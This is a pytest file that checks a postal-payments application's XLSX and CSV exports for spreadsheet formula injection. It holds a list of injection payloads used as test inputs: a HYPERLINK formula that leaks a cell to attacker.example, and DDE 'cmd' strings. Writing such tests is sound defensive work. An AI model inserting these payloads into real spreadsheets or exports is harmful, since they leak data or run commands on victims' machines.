"""Every XLSX and CSV export neutralises text a spreadsheet would run as a formula, keeps numbers numeric."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta, timezone

import pytest
from openpyxl import load_workbook

from payments import reports
from payments.models import ReconciliationDay, ReconciliationItem
from postal_gateway.accounts.models import Role
from postal_gateway.core.spreadsheets import csv_text, safe_cell, safe_row
from postal_gateway.dossiers.models import PaymentKind
from postal_gateway.statistics import export as statistics_export
from postal_gateway.statistics.service import COUNT_KEYS, AgencyRow, Period, Report
from tests import factories
from tests.conftest import log_in
from tracking import reports as tracking_reports
from tracking.vocabulary import LEG_LABELS, STATE_LABELS

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")'
PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]
NOW = datetime(2026, 3, 2, 3, 0, tzinfo=timezone.utc)


def cells(xlsx: bytes, sheet_index: int = 0) -> list:
    sheet = load_workbook(io.BytesIO(xlsx)).worksheets[sheet_index]
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_no_formula(xlsx: bytes, sheet_index: int = 0) -> None:
    for cell in cells(xlsx, sheet_index):
        assert cell.data_type != "f", cell.value
        if isinstance(cell.value, str):
            assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_could_start_a_formula_is_quoted(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [-50_000, 0, 12.5, None, True, "-50000", "+84", "Hồ sơ 000.00.20.H10-260302-0001",
                                   date(2026, 3, 2), "'=already quoted"])
def test_numbers_and_plain_text_are_kept_as_they_are(value):
    assert safe_cell(value) == value


def test_csv_rows_are_neutralised_and_negative_amounts_stay_numbers():
    parsed = list(csv.reader(io.StringIO(csv_text([["comment", "amount_vnd"], [HYPERLINK, -50_000]]))))
    assert parsed[1] == ["'" + HYPERLINK, "-50000"]
    assert safe_row([HYPERLINK, -1]) == ["'" + HYPERLINK, -1]


def test_reconciliation_report_keeps_a_resolve_comment_as_text(app, session):
    agency = factories.agency(session, name="=cmd|' /C calc'!A0")
    record = ReconciliationDay(agency_id=agency.id, day=date(2026, 3, 2), totals={}, reconciled_at=NOW)
    session.add(record)
    session.flush()
    item = ReconciliationItem(day_id=record.id, category="amount_mismatch", txn_ref="-1+1", dossier_code="@x",
                              owed_vnd=50_000, ours_vnd=-20_000, gateway_vnd=30_000, comment=HYPERLINK)
    session.add(item)
    session.flush()
    with app.test_request_context("/"):
        body = reports.xlsx(record, [item])
    assert_no_formula(body, 0)
    assert_no_formula(body, 1)
    detail = load_workbook(io.BytesIO(body)).worksheets[1]
    row = [cell.value for cell in detail[2]]
    assert row[7] == "'" + HYPERLINK and row[2] == "'-1+1" and row[1] == "'@x"
    assert row[3:6] == [50_000, -20_000, 30_000]  # amounts stay numbers, the negative one too


def test_statistics_export_keeps_an_agency_name_as_text(app):
    counts = {key: 1 for key in COUNT_KEYS}
    report = Report(period=Period(date(2026, 3, 1), date(2026, 3, 31)), cutoff=NOW,
                    rows=[AgencyRow("000.00.20.H10", HYPERLINK, counts)])
    body = statistics_export.xlsx(report)
    assert_no_formula(body)
    values = [cell.value for cell in cells(body)]
    assert "'" + HYPERLINK in values and 1 in values


def test_tracking_exports_keep_leg_text_as_text():
    kind, state = next(iter(LEG_LABELS)).value, next(iter(STATE_LABELS)).value
    row = tracking_reports.LegRow(code="=1+1", kind=kind, state=state, post_office="\t=2+2", started_at=NOW,
                                  due_at=NOW + timedelta(days=1), completed_at=None, sla=None, due_basis=HYPERLINK)
    assert_no_formula(tracking_reports.to_xlsx([row]))
    parsed = list(csv.reader(io.StringIO(tracking_reports.to_csv([row]).decode("utf-8-sig"))))
    assert parsed[1][0] == "'=1+1" and parsed[1][3] == "'\t=2+2" and parsed[1][8] == "'" + HYPERLINK


def test_cash_statement_csv_keeps_a_post_office_code_as_text(client, session):
    agency = factories.agency(session)
    procedure = factories.procedure(session, agency, fee_vnd=100_000)
    office = factories.post_office(session, code="=1+2")
    worker = factories.user(session, Role.postal_staff, post_office_id=office.id)
    dossier = factories.dossier(session, agency, procedure, factories.user(session), received_at=NOW,
                                post_office_id=office.id)
    factories.amount_collected(session, dossier, PaymentKind.fee, 100_000, by=worker, at=NOW)
    operator = factories.user(session, Role.operator)
    session.commit()
    log_in(client, operator)
    response = client.get("/cash/statement", query_string={"agency": agency.code, "start": "2026-03-01",
                                                           "end": "2026-03-31", "format": "csv"})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    parsed = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert parsed[1][3] == "100000" and parsed[1][4] == "'=1+2"
